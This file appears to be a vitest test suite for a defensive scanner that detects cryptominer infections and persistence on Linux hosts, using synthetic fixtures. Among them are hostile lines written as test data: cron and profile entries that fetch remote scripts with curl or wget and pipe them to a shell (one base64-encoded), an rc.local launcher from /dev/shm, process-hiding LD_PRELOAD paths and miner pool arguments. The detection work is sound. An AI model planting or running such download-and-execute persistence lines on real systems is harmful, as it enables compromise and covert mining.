import { describe, expect, it } from 'vitest';
import { RULES } from '../../../src/rules/index.js';
import { runRules } from '../../../src/rules/run-rules.js';
import { analyzeFleet } from '../../../src/detect/analyze-fleet.js';
import { CLEAN, RECORDED_LAB_RULES, SCENARIOS, catalogue, ctx, facts } from './fixtures.js';

// Every rule on a fixture host that should trigger it (infected) and on the clean hosts.
const FIRES_ON: Record<string, { fixture: string; family?: string; artifact: string }> = {
  'process.known-miner-name': { fixture: 'kinsing', family: 'kinsing', artifact: 'process' },
  'process.miner-argv': { fixture: 'aliyunduns', family: 'aliyunduns', artifact: 'process' },
  'net.pool-domain': { fixture: 'pool-domain', artifact: 'process' },
  'process.kernel-thread-impostor': { fixture: 'outlaw', family: 'outlaw', artifact: 'process' },
  'process.exe-in-writable-dir': { fixture: 'ddg', family: 'ddg', artifact: 'file' },
  'process.deleted-exe': { fixture: 'deleted', artifact: 'process' },
  'process.high-cpu-suspicious-exe': { fixture: 'minerd', family: 'minerd', artifact: 'process' },
  'process.hidden': { fixture: 'hidden', artifact: 'process' },
  'net.miner-port-connection': { fixture: 'skidmap', family: 'skidmap', artifact: 'egress' },
  'net.c2-connection': { fixture: 'c2', family: 'ddg', artifact: 'egress' },
  'preload.non-empty': { fixture: 'kinsing', family: 'kinsing', artifact: 'preload' },
  'preload.env-ld-preload': { fixture: 'env-preload', artifact: 'file' },
  'cron.known-family': { fixture: 'cleanfda', family: 'cleanfda', artifact: 'file' },
  'cron.download-pipe-shell': { fixture: 'ddg', artifact: 'cron-line' },
  'cron.base64-blob': { fixture: 'base64', artifact: 'cron-line' },
  'cron.exec-from-writable-dir': { fixture: 'outlaw', family: 'outlaw', artifact: 'cron-line' },
  'unit.known-family': { fixture: 'skidmap', family: 'skidmap', artifact: 'unit' },
  'unit.exec-from-writable-dir': { fixture: 'kinsing', family: 'kinsing', artifact: 'unit' },
  'init.suspicious-rc': { fixture: 'rc-local', artifact: 'profile-line' },
  'profile.suspicious-line': { fixture: 'profile', artifact: 'profile-line' },
  'file.known-family-path': { fixture: 'family-path', family: 'outlaw', artifact: 'file' },
  'binary.renamed-system-tool': { fixture: 'cleanfda', family: 'cleanfda', artifact: 'renamed-binary' },
  'hosts.pool-domain': { fixture: 'hosts-pool', artifact: 'hosts-entry' },
  'kernel.rootkit-module': { fixture: 'rootkit', artifact: '' },
  'account.uid0-non-root': { fixture: 'aliyunduns', family: 'aliyunduns', artifact: 'account' },
  'account.backdoor-user': { fixture: 'aliyunduns', family: 'aliyunduns', artifact: 'account' },
  'account.empty-password': { fixture: 'empty-password', artifact: 'account' },
  'key.known-malicious-comment': { fixture: 'outlaw', family: 'outlaw', artifact: 'authorized-key' },
  'redis.open-unauthenticated': { fixture: 'minerd', artifact: 'redis' },
  'firewall.datastore-open-to-world': { fixture: 'minerd', artifact: 'firewall-rule' },
  'docker.api-exposed': { fixture: 'docker', artifact: '' },
  'hosts.ioc-entry': { fixture: 'hosts-c2', family: 'minerd', artifact: 'hosts-entry' },
  'ioc.known-indicator': { fixture: 'ioc-file', artifact: 'hosts-entry' },
  'key.recently-added': { fixture: 'cleanfda', artifact: 'authorized-key' },
  'attr.immutable-persistence': { fixture: 'cleanfda', artifact: 'immutable' },
};

/** Fixtures derived from the hand-written ones for rules no lab scenario exercises. */
function variant(name: string) {
  const f = facts('clean');
  const p = f.processes.find((x) => x.comm === 'cron')!;
  switch (name) {
    case 'pool-domain':
      f.processes.push({ ...p, pid: 700, comm: 'update', argv: ['/usr/local/bin/update', '-o', 'gulf.moneroocean.stream:10128', '-u', 'w'], exe: '/usr/local/bin/update' });
      break;
    case 'deleted':
      f.processes.push({ ...p, pid: 701, comm: 'dbused', argv: ['dbused'], exe: '/root/dbused (deleted)', exeDeleted: true });
      break;
    case 'hidden':
      f.processes.push({ ...p, pid: 702, comm: 'java8', argv: ['java8'], exe: '/usr/local/bin/java8' });
      f.hiddenPids.push({ pid: 702, how: 'missing-from-ps' }, { pid: 402, how: 'missing-from-ps' });
      break;
    case 'c2':
      f.sockets.push({ proto: 'tcp', state: 'ESTAB', localAddress: '198.18.3.11', localPort: 40000, remoteAddress: '218.248.40.228', remotePort: 8443, pid: 110, process: 'cron' });
      break;
    case 'env-preload':
      f.processes.push({ ...p, pid: 703, comm: 'sshd', ldPreload: '/usr/local/lib/libprocesshider.so.x /dev/shm/.h.so' });
      break;
    case 'base64':
      f.cron.push({ ...f.cron[0]!, path: '/var/spool/cron/crontabs/root', content: '0 * * * * echo Y3VybCAtZnNTTCBodHRwOi8vMTk4LjE4LjMuMjAzL3guc2ggfCBzaA== | base64 -d | sh\n' });
      break;
    case 'rc-local':
      f.initScripts.push({ ...f.initScripts[0]!, path: '/etc/rc.local', content: '#!/bin/sh -e\nnohup /dev/shm/.x/run >/dev/null 2>&1 &\nexit 0\n' });
      break;
    case 'profile':
      f.profiles.push({ ...f.profiles[0]!, path: '/etc/profile.d/env.sh', content: 'export LANG=C.UTF-8\n(curl -s http://198.18.3.204/p.sh || wget -qO- http://198.18.3.204/p.sh) | bash &\n' });
      break;
    case 'hosts-pool':
      f.etcHosts!.content += '198.18.3.200 pool.supportxmr.com\n';
      break;
    case 'rootkit':
      f.kernel.modules.push('diamorphine');
      f.kernel.tainted = 12288;
      break;
    case 'empty-password':
      f.shadow.find((s) => s.name === 'ops')!.password = 'empty';
      break;
    case 'docker':
      f.docker = { apiListening: true, addresses: ['0.0.0.0:2375'] };
      break;
    case 'family-path':
      f.knownPaths = [{ path: '/root/.configrc5', type: 'dir', size: 4096, mtime: 1 }];
      f.recentFiles.push({ path: '/tmp/.X2xi-unix/.rsync/c/run', mtime: 2 }, { path: '/etc/hostname', mtime: 3 });
      break;
    case 'hosts-c2': {
      const m = facts('minerd');
      m.etcHosts!.content += '198.18.3.200 pm.cpuminerpool.invalid\n';
      return m;
    }
    case 'ioc-file':
      f.etcHosts!.content += '203.0.113.66 cdn-update.example\n';
      break;
    default:
      return facts(name);
  }
  return f;
}

const iocCtx = { ...ctx, catalogue: { ...catalogue, iocs: [{ type: 'ip' as const, value: '203.0.113.66', family: 'teamtnt', source: 'web07' }] } };

describe('rules', () => {
  it('every rule has a test case here, and ids are unique', () => {
    const ids = RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    // rules of the detection lab fire on its recorded facts (field-lab.test.ts)
    expect(ids.filter((id) => !FIRES_ON[id] && !RECORDED_LAB_RULES[id])).toEqual([]);
  });

  for (const rule of RULES) {
    const want = FIRES_ON[rule.id];
    if (want)
    it(`${rule.id} fires on ${want.fixture}`, () => {
      const f = variant(want.fixture);
      const { findings } = runRules(f, want.fixture === 'ioc-file' ? iocCtx : ctx);
      const mine = findings.filter((x) => x.rule === rule.id);
      expect(mine.length).toBeGreaterThan(0);
      for (const x of mine) {
        expect(x.host).toBe(f.host);
        expect(x.evidence.length).toBeGreaterThan(0);
        expect(x.title).not.toBe('');
        expect(x.remedy).not.toBe('');
      }
      if (want.family) expect(mine.map((x) => x.family)).toContain(want.family);
      if (want.artifact) expect(mine.flatMap((x) => x.artifacts.map((a) => a.type))).toContain(want.artifact);
    });
    for (const clean of CLEAN)
      it(`${rule.id} is silent on ${clean}`, () => {
        expect(runRules(facts(clean), ctx).findings.filter((x) => x.rule === rule.id)).toEqual([]);
      });
  }
});

describe('scenarios', () => {
  const fleet = [...SCENARIOS, ...CLEAN, 'pivot-only'].map(facts);
  const { findings, errors } = analyzeFleet(fleet, { catalogue, trustedKeys: ctx.trustedKeys });
  it('no rule throws', () => expect(errors).toEqual([]));
  for (const s of SCENARIOS)
    it(`${s} host is attributed to ${s}`, () => {
      const host = fleet.find((f) => facts(s).host === f.host)!.host;
      const fams = findings.get(host)!.map((f) => f.family);
      expect(fams).toContain(s);
    });
  it('clean and clean-but-busy hosts get zero findings', () => {
    expect(findings.get('clean1')).toEqual([]);
    expect(findings.get('busy1')).toEqual([]);
  });
  it('the pivot finds the host whose only traces were seen elsewhere', () => {
    const p = findings.get('pivot1')!;
    expect(p.map((f) => f.rule).sort()).toEqual(['pivot.ip', 'pivot.sha256']);
    expect(p.find((f) => f.rule === 'pivot.ip')!.pivot).toMatchObject({ ioc: { value: '198.18.3.202' }, seenOn: ['ddg1'] });
    expect(p.find((f) => f.rule === 'pivot.sha256')!.family).toBe('minerd');
  });
  it('watchdogs and miners get their roles', () => {
    const roles = findings.get('ddg1')!.flatMap((f) => f.artifacts.flatMap((a) => (a.type === 'process' ? [[a.comm, a.role]] : [])));
    expect(new Map(roles as [string, string][])).toEqual(new Map([['ddg.2021', 'watchdog'], ['wnTKYg', 'miner']]));
  });
  it('cron findings carry path, line number and the exact line', () => {
    const c = findings.get('ddg1')!.find((f) => f.rule === 'cron.download-pipe-shell')!;
    expect(c.artifacts[0]).toEqual({ type: 'cron-line', path: '/var/spool/cron/root', lineNumber: 1, line: '*/5 * * * * curl -fsSL http://198.18.3.202:8443/i.sh | sh' });
    expect(c.iocs.map((i) => i.value)).toEqual(expect.arrayContaining(['http://198.18.3.202:8443/i.sh', '198.18.3.202']));
  });
});
